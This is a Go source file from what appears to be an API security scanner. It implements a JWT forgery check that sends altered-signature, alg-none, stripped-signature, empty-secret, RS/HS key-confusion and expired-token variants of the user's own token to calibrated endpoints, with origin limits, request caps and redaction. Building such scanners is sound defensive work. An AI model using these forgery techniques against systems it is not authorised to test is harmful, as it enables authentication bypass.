package jwt

import (
	"context"
	"crypto/hmac"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"strings"

	"github.com/plumbsec/plumb/internal/check"
	"github.com/plumbsec/plumb/internal/checks/bearer"
	"github.com/plumbsec/plumb/internal/finding"
	"github.com/plumbsec/plumb/internal/netx"
)

// Bounds on the forgery check's requests.
const (
	MaxForgeryOps      = 16  // usable oracles tried
	MaxForgeryRequests = 240 // forged tokens sent per scan
)

// forgery is one forged token and what it tests.
type forgery struct {
	family string // finding param, e.g. "alg-none"
	raw    string
	header map[string]any
	claims map[string]any
	// credential: signed with a cracked real secret, so a working token
	// that must be redacted everywhere.
	credential bool
}

// family describes one attack.
type family struct {
	name, title, why string
	sev              finding.Severity
}

var families = []family{
	{"signature-not-verified", "accepts a JWT whose signature was altered", "The signature is not checked at all.", finding.Critical},
	{"alg-none", `accepts an unsigned JWT (alg "none")`, "Unsigned tokens are trusted (RFC 8725 §3.2).", finding.Critical},
	{"null-signature", "accepts a JWT with the signature removed", "An empty signature passes verification (CVE-2020-28042 class).", finding.Critical},
	{"blank-secret", "accepts a JWT signed with an empty HMAC secret", "The HMAC key is empty or unset (CVE-2019-20933 class).", finding.Critical},
	{"key-confusion", "accepts an HS256 JWT keyed with its RSA public key", "The verifier lets the token pick HMAC and uses the public key as the secret (RS/HS confusion, RFC 8725 §3.1).", finding.Critical},
	{"expired-accepted", "accepts an expired JWT", "exp is not enforced: a stolen token never dies.", finding.High},
}

func familyByName(n string) family {
	for _, f := range families {
		if f.name == n {
			return f
		}
	}
	return family{name: n, title: "accepts a forged JWT", sev: finding.Critical}
}

func (t *Token) forge(fam string, header map[string]any, sig string) forgery {
	h := encodeSegment(header)
	return forgery{family: fam, raw: h + "." + t.Parts[1] + "." + sig, header: header, claims: t.Claims}
}

func hmacSign(alg, input string, key []byte) string {
	hf := hmacHash(alg)
	if hf == nil {
		hf = hmacHash("HS256")
	}
	m := hmac.New(hf, key)
	m.Write([]byte(input))
	return base64.RawURLEncoding.EncodeToString(m.Sum(nil))
}

// forgeries builds every forged token for t, in jwt_tool's playbook order.
func forgeries(t *Token, cracked *cracked, pubKeys [][]byte, now int64) []forgery {
	var out []forgery
	if sig := t.Parts[2]; len(sig) > 4 {
		// A middle character: the last one may only carry padding bits.
		i := len(sig) / 2
		c := byte('A')
		if sig[i] == 'A' {
			c = 'B'
		}
		f := forgery{family: "signature-not-verified", raw: t.SigningInput() + "." + sig[:i] + string(c) + sig[i+1:], header: t.Header, claims: t.Claims}
		out = append(out, f)
	}
	for _, alg := range []string{"none", "None", "NONE", "nOnE"} {
		f := t.forge("alg-none", t.withHeader(map[string]any{"alg": alg}), "")
		out = append(out, f, forgery{family: f.family, raw: strings.TrimSuffix(f.raw, "."), header: f.header, claims: f.claims})
	}
	if !strings.EqualFold(t.Alg(), "none") {
		out = append(out, forgery{family: "null-signature", raw: t.SigningInput() + ".", header: t.Header, claims: t.Claims})
	}
	alg := t.Alg()
	if hmacHash(alg) == nil {
		alg = "HS256"
	}
	bh := t.withHeader(map[string]any{"alg": alg})
	out = append(out, t.forge("blank-secret", bh, hmacSign(alg, encodeSegment(bh)+"."+t.Parts[1], nil)))
	if hmacHash(t.Alg()) == nil {
		ch := t.withHeader(map[string]any{"alg": "HS256"})
		for _, k := range pubKeys {
			out = append(out, t.forge("key-confusion", ch, hmacSign("HS256", encodeSegment(ch)+"."+t.Parts[1], k)))
		}
	}
	if cracked != nil {
		claims := make(map[string]any, len(t.Claims))
		for k, v := range t.Claims {
			claims[k] = v
		}
		claims["iat"], claims["exp"] = now-7200, now-3600
		p := encodeSegment(claims)
		h := t.Parts[0]
		out = append(out, forgery{family: "expired-accepted", raw: h + "." + p + "." + hmacSign(t.Alg(), h+"."+p, []byte(cracked.secret)),
			header: t.Header, claims: claims, credential: true})
	}
	return out
}

// Forgery sends forged variants of the user's JWT through the calibration
// oracle.
type Forgery struct {
	Crack CrackOptions // must equal WeakSecret.Crack: the scan cracks once
}

// Meta describes the check.
func (Forgery) Meta() check.Meta {
	return check.Meta{
		ID: "authentication.jwt-forgery", Title: "API accepts forged JWTs", Category: finding.CatAuthentication,
		OWASP: "API2:2023", CWE: "CWE-347", Severity: finding.Critical, Needs: check.NeedSpec | check.NeedCredential,
		Group: finding.GroupHostParam, // one finding per kind of forgery: the verifier is one
		Description: fmt.Sprintf("Sends forged copies of the user's JWT (claims unchanged) to up to %d calibrated secured "+
			"operations on the target's origin (where the credential itself may go: https, or http with --allow-http-credentials): altered signature, alg none (4 casings, with and without the trailing dot), "+
			"signature removed, empty HMAC secret, RS→HS key confusion with the API's JWKS, and, when the secret was cracked, "+
			"an expired token. Accepted means the answer matches the real token's while a garbage token is refused. "+
			"At most %d forged requests per scan.", MaxForgeryOps, MaxForgeryRequests),
		Remediation: remedyVerify,
	}
}

// Run forges and sends.
func (c Forgery) Run(ctx context.Context, in *check.Input) ([]finding.Finding, error) {
	t, perr := Parse(in.HTTP.BearerToken())
	if perr != nil {
		return nil, nil //nolint:nilerr // not a JWT: nothing to forge
	}
	t.Source = "credential"
	if base := in.BaseURL().String(); !in.HTTP.CanCarryCredential(base) {
		return nil, check.NotAssessed("forged tokens go only where the credential itself may go, and %s is not such a place "+
			"(plain http needs --allow-http-credentials)", in.HTTP.Redactor().URL(base))
	}
	cal, err := bearer.Calibrate(ctx, in)
	if err != nil {
		return nil, err
	}
	cs, err := crackAll(ctx, in, c.Crack)
	if err != nil {
		return nil, err
	}
	var ck *cracked
	for i := range cs {
		if cs[i].tok.Raw == t.Raw {
			ck = &cs[i]
		}
	}
	keys, err := publicKeys(ctx, in, t)
	if err != nil {
		return nil, err
	}
	fgs := forgeries(t, ck, keys, in.Now().Unix())
	for _, f := range fgs {
		in.HTTP.Redactor().Add(f.raw) // evidence shows header and claims, never a usable token
	}
	r := &runner{c: c, in: in, cal: cal}
	oracles := cal.Usable()
	if len(oracles) == 0 {
		return nil, check.NotAssessed("no secured operation accepted the real token and refused a garbage one, so a forgery's answer has nothing to be compared with")
	}
	for _, o := range oracles[:min(len(oracles), MaxForgeryOps)] {
		if err := r.attack(ctx, o, fgs); err != nil {
			return r.fs, err
		}
	}
	if r.sent == 0 {
		return r.fs, check.NotAssessed("forged tokens go only where the credential itself may go, and %s is not such a place "+
			"(another origin needs --scope)", in.HTTP.Redactor().URL(oracles[0].URL))
	}
	return r.fs, nil
}

type runner struct {
	c    Forgery
	in   *check.Input
	cal  *bearer.Calibration
	sent int
	fs   []finding.Finding
}

// attack tries each family on one operation, stopping a family at its
// first accepted variant and the whole operation once the signature is
// shown to be ignored (every other forgery would pass for that reason).
func (r *runner) attack(ctx context.Context, o *bearer.Oracle, fgs []forgery) error {
	if !r.in.HTTP.CanCarryCredential(o.URL) {
		return nil // forged tokens go where the credential may go, and nowhere else
	}
	won := map[string]bool{}
	for _, f := range fgs {
		if won[f.family] || won["signature-not-verified"] {
			continue
		}
		if r.sent >= MaxForgeryRequests {
			return nil
		}
		r.sent++
		req := &netx.Request{URL: o.URL, Header: http.Header{"Authorization": {"Bearer " + f.raw}}}
		resp, err := r.in.HTTP.Do(ctx, req)
		if err != nil {
			if fe := fatalErr(err); fe != nil {
				return fe
			}
			continue
		}
		ok, conf := o.Accepts(resp)
		if !ok {
			continue
		}
		// Second request: garbage is still refused now, so the operation
		// did not just start accepting everything.
		greq := &netx.Request{URL: o.URL, Header: http.Header{"Authorization": {"Bearer " + r.cal.Canary}}}
		gresp, gerr := r.in.HTTP.Do(ctx, greq)
		r.sent++
		if gerr != nil || (gresp.StatusCode >= 200 && gresp.StatusCode < 300) {
			continue
		}
		won[f.family] = true
		r.fs = append(r.fs, r.finding(o, f, conf, bearer.Exchange{Req: req, Resp: resp}, bearer.Exchange{Req: greq, Resp: gresp}))
	}
	return nil
}

func (r *runner) finding(o *bearer.Oracle, f forgery, conf finding.Confidence, got, base bearer.Exchange) finding.Finding {
	fam := familyByName(f.family)
	fd := check.New(r.c.Meta(), fmt.Sprintf("%s %s %s", o.Op.Method, o.Op.Path, fam.title),
		finding.Location{Host: r.in.Target.Host, Method: o.Op.Method, Path: o.Op.Path, Param: f.family})
	fd.Severity, fd.Confidence = fam.sev, conf
	hj, _ := json.Marshal(f.header)
	sig := "<empty>"
	if parts := strings.Split(f.raw, "."); len(parts) == 3 && parts[2] != "" {
		sig = fmt.Sprintf("<%d chars, redacted>", len(parts[2]))
	} else if len(parts) == 2 {
		sig = "<no signature segment>"
	}
	claims := safeClaims(&Token{Claims: f.claims})
	fd.Evidence = finding.Evidence{
		Summary: fmt.Sprintf("%s Forged header %s, claims %s, signature %s. The forged token got HTTP %d matching the real "+
			"token's answer; a garbage token sent right after got HTTP %d (calibration: no token HTTP %d, garbage HTTP %d).",
			fam.why, hj, claims, sig, got.Resp.StatusCode, base.Resp.StatusCode, o.None.Status(), o.Garbage.Status()),
		HTTP: []finding.HTTPExchange{r.in.HTTP.Evidence(got.Req, got.Resp, nil), r.in.HTTP.Evidence(base.Req, base.Resp, nil)},
	}
	fd.Remediation = remedyVerify
	return fd
}

func fatalErr(err error) error {
	if err == nil {
		return nil
	}
	if errors.Is(err, netx.ErrBudgetExhausted) || errors.Is(err, context.Canceled) {
		return err
	}
	return nil
}
